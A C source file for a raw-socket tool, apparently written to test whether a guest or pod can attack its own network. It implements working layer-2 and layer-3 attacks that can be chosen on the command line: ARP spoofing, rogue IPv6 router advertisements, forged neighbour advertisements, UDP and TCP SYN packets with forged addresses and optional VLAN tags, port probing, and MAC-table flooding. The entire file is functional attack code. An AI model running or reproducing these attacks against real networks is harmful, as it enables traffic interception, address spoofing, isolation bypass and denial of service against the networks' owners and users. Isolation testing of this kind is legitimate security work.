/*
 * Attacks of a guest on its network, one for each call: writes whole frames.
 *
 *   hostile-frames DEVICE ATTACK [ARGUMENT...]
 *
 * Prints `sent COUNT`, and for `knock` what came back.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <sys/time.h>
#include <unistd.h>

enum { repeats = 5, frame_bytes = 256 };

static int descriptor;
static uint8_t own_mac[6];
static const uint8_t everybody[6] = {0xff, 0xff, 0xff, 0xff, 0xff, 0xff};
static const uint8_t all_nodes[6] = {0x33, 0x33, 0, 0, 0, 1};

static void fail(const char *what) {
  perror(what);
  exit(1);
}

static void open_device(const char *name) {
  descriptor = socket(AF_PACKET, SOCK_RAW, htons(ETH_P_ALL));
  if (descriptor < 0) fail("socket");
  struct ifreq request = {0};
  snprintf(request.ifr_name, sizeof request.ifr_name, "%s", name);
  if (ioctl(descriptor, SIOCGIFINDEX, &request) < 0) fail("SIOCGIFINDEX");
  struct sockaddr_ll address = {
      .sll_family = AF_PACKET, .sll_protocol = htons(ETH_P_ALL), .sll_ifindex = request.ifr_ifindex};
  if (bind(descriptor, (struct sockaddr *)&address, sizeof address) < 0) fail("bind");
  if (ioctl(descriptor, SIOCGIFHWADDR, &request) < 0) fail("SIOCGIFHWADDR");
  memcpy(own_mac, request.ifr_hwaddr.sa_data, 6);
}

static void read_mac(const char *text, uint8_t *mac) {
  if (sscanf(text, "%hhx:%hhx:%hhx:%hhx:%hhx:%hhx", mac, mac + 1, mac + 2, mac + 3, mac + 4, mac + 5) != 6) {
    fprintf(stderr, "not a MAC: %s\n", text);
    exit(1);
  }
}

static void read_ip(int family, const char *text, uint8_t *address) {
  if (inet_pton(family, text, address) != 1) {
    fprintf(stderr, "not an address: %s\n", text);
    exit(1);
  }
}

static uint16_t folded(uint32_t sum) {
  while (sum >> 16) sum = (sum & 0xffff) + (sum >> 16);
  return (uint16_t)~sum;
}

static uint32_t summed(const uint8_t *bytes, int count, uint32_t sum) {
  for (int at = 0; at < count; at += 2) sum += (uint32_t)(bytes[at] << 8 | (at + 1 < count ? bytes[at + 1] : 0));
  return sum;
}

static void put16(uint8_t *at, unsigned value) {
  at[0] = (uint8_t)(value >> 8);
  at[1] = (uint8_t)value;
}

static int header(uint8_t *frame, const uint8_t *to, const uint8_t *from, unsigned type) {
  memcpy(frame, to, 6);
  memcpy(frame + 6, from, 6);
  put16(frame + 12, type);
  return 14;
}

static void send_repeatedly(const uint8_t *frame, int bytes) {
  int sent = 0;
  for (int at = 0; at < repeats; at += 1) {
    if (send(descriptor, frame, (size_t)bytes, 0) == bytes) sent += 1;
    usleep(20000);
  }
  printf("sent %d\n", sent);
}

/* arp TARGET_MAC TARGET_IP CLAIMED_IP [SENDER_MAC]: that address is at this pod. */
static void arp(char **arguments) {
  uint8_t frame[frame_bytes] = {0}, target[6];
  read_mac(arguments[0], target);
  int at = header(frame, target, own_mac, ETH_P_ARP);
  static const uint8_t answer[8] = {0, 1, 8, 0, 6, 4, 0, 2};
  memcpy(frame + at, answer, 8);
  memcpy(frame + at + 8, own_mac, 6);
  read_ip(AF_INET, arguments[2], frame + at + 14);
  memcpy(frame + at + 18, target, 6);
  read_ip(AF_INET, arguments[1], frame + at + 24);
  send_repeatedly(frame, at + 28);
}

/* An ICMPv6 message of that many bytes, already in its place, to all nodes. */
static int ipv6(uint8_t *frame, const char *from, const char *to, int bytes) {
  int at = header(frame, all_nodes, own_mac, ETH_P_IPV6);
  uint8_t *ip = frame + at;
  ip[0] = 0x60;
  put16(ip + 4, (unsigned)bytes);
  ip[6] = IPPROTO_ICMPV6;
  ip[7] = 255;
  read_ip(AF_INET6, from, ip + 8);
  read_ip(AF_INET6, to, ip + 24);
  put16(ip + 42, 0);
  uint32_t sum = summed(ip + 8, 32, (uint32_t)bytes + IPPROTO_ICMPV6);
  put16(ip + 42, folded(summed(ip + 40, bytes, sum)));
  return at + 40 + bytes;
}

/* ra SOURCE: a router for everything, with a prefix. */
static void router(char **arguments) {
  uint8_t frame[frame_bytes] = {0};
  uint8_t *message = frame + 54;
  static const uint8_t start[16] = {134, 0, 0, 0, 64, 0x08, 7, 8};
  memcpy(message, start, 16);
  uint8_t *prefix = message + 16;
  static const uint8_t option[12] = {3, 4, 64, 0xc0, 0, 0, 255, 255, 0, 0, 255, 255};
  memcpy(prefix, option, 12);
  read_ip(AF_INET6, "2001:db8:bad::", prefix + 16);
  prefix[32] = 1; /* source link-layer address */
  prefix[33] = 1;
  memcpy(prefix + 34, own_mac, 6);
  send_repeatedly(frame, ipv6(frame, arguments[0], "ff02::1", 56));
}

/* na SOURCE CLAIMED: that address is at this pod. */
static void neighbour(char **arguments) {
  uint8_t frame[frame_bytes] = {0};
  uint8_t *message = frame + 54;
  message[0] = 136;
  message[4] = 0x20; /* override */
  read_ip(AF_INET6, arguments[1], message + 8);
  message[24] = 2; /* target link-layer address */
  message[25] = 1;
  memcpy(message + 26, own_mac, 6);
  send_repeatedly(frame, ipv6(frame, arguments[0], "ff02::1", 32));
}

/* udp SOURCE_MAC TARGET_MAC SOURCE_IP TARGET_IP SOURCE_PORT PORT [VLAN] */
static int packet(uint8_t *frame, char **arguments, int protocol) {
  uint8_t from[6], to[6];
  if (strcmp(arguments[0], "own") == 0) memcpy(from, own_mac, 6);
  else read_mac(arguments[0], from);
  read_mac(arguments[1], to);
  int at = header(frame, to, from, ETH_P_IP);
  if (arguments[6] != NULL) {
    put16(frame + 12, ETH_P_8021Q);
    put16(frame + 14, (unsigned)atoi(arguments[6]));
    put16(frame + 16, ETH_P_IP);
    at = 18;
  }
  uint8_t *ip = frame + at;
  ip[0] = 0x45;
  ip[8] = 64;
  ip[9] = (uint8_t)protocol;
  read_ip(AF_INET, arguments[2], ip + 12);
  read_ip(AF_INET, arguments[3], ip + 16);
  put16(ip + 20, (unsigned)atoi(arguments[4]));
  put16(ip + 22, (unsigned)atoi(arguments[5]));
  int bytes = protocol == IPPROTO_UDP ? 12 : 20;
  put16(ip + 2, (unsigned)(20 + bytes));
  put16(ip + 10, folded(summed(ip, 20, 0)));
  if (protocol == IPPROTO_UDP) {
    put16(ip + 24, 12);
    memcpy(ip + 28, "lie\n", 4);
    return at + 32;
  }
  put16(ip + 26, 1);
  ip[32] = 0x50;
  ip[33] = 2; /* SYN */
  ip[34] = 0x40;
  put16(ip + 36, folded(summed(ip + 20, 20, summed(ip + 12, 8, IPPROTO_TCP + 20))));
  return at + 40;
}

static void udp(char **arguments) {
  uint8_t frame[frame_bytes] = {0};
  send_repeatedly(frame, packet(frame, arguments, IPPROTO_UDP));
}

/* knock: as udp, but asks a TCP port for a connection and says whether an answer comes within a second. */
static void knock(char **arguments) {
  uint8_t frame[frame_bytes] = {0}, got[2048];
  int bytes = packet(frame, arguments, IPPROTO_TCP);
  struct timeval second = {1, 0};
  setsockopt(descriptor, SOL_SOCKET, SO_RCVTIMEO, &second, sizeof second);
  send_repeatedly(frame, bytes);
  const char *answer = "none";
  for (ssize_t count; (count = recv(descriptor, got, sizeof got, 0)) > 0;) {
    if (count < 54 || got[12] != 8 || got[13] != 0 || got[23] != IPPROTO_TCP) continue;
    if (memcmp(got + 26, frame + 30, 4) != 0 || memcmp(got + 34, frame + 36, 2) != 0) continue;
    answer = (got[47] & 0x12) == 0x12 ? "open" : "closed";
    break;
  }
  printf("answer %s\n", answer);
}

/* flood COUNT: that many source addresses. */
static void flood(char **arguments) {
  uint8_t frame[64] = {0}, from[6] = {2, 0xba, 0xd0};
  int count = atoi(arguments[0]), sent = 0;
  for (int at = 0; at < count; at += 1) {
    from[3] = (uint8_t)(at >> 16);
    from[4] = (uint8_t)(at >> 8);
    from[5] = (uint8_t)at;
    header(frame, everybody, from, 0x88b5); /* for experiments */
    if (send(descriptor, frame, sizeof frame, 0) == (ssize_t)sizeof frame) sent += 1;
  }
  printf("sent %d\n", sent);
}

int main(int count, char **arguments) {
  if (count < 4) {
    fprintf(stderr, "usage: %s DEVICE ATTACK ARGUMENT...\n", arguments[0]);
    return 2;
  }
  open_device(arguments[1]);
  static const struct {
    const char *name;
    void (*run)(char **);
    int arguments;
  } attacks[] = {{"arp", arp, 3}, {"ra", router, 1}, {"na", neighbour, 2},
                 {"udp", udp, 6}, {"knock", knock, 6}, {"flood", flood, 1}};
  for (size_t at = 0; at < sizeof attacks / sizeof attacks[0]; at += 1) {
    if (strcmp(arguments[2], attacks[at].name) != 0 || count < 3 + attacks[at].arguments) continue;
    attacks[at].run(arguments + 3);
    return 0;
  }
  fprintf(stderr, "no such attack: %s\n", arguments[2]);
  return 2;
}
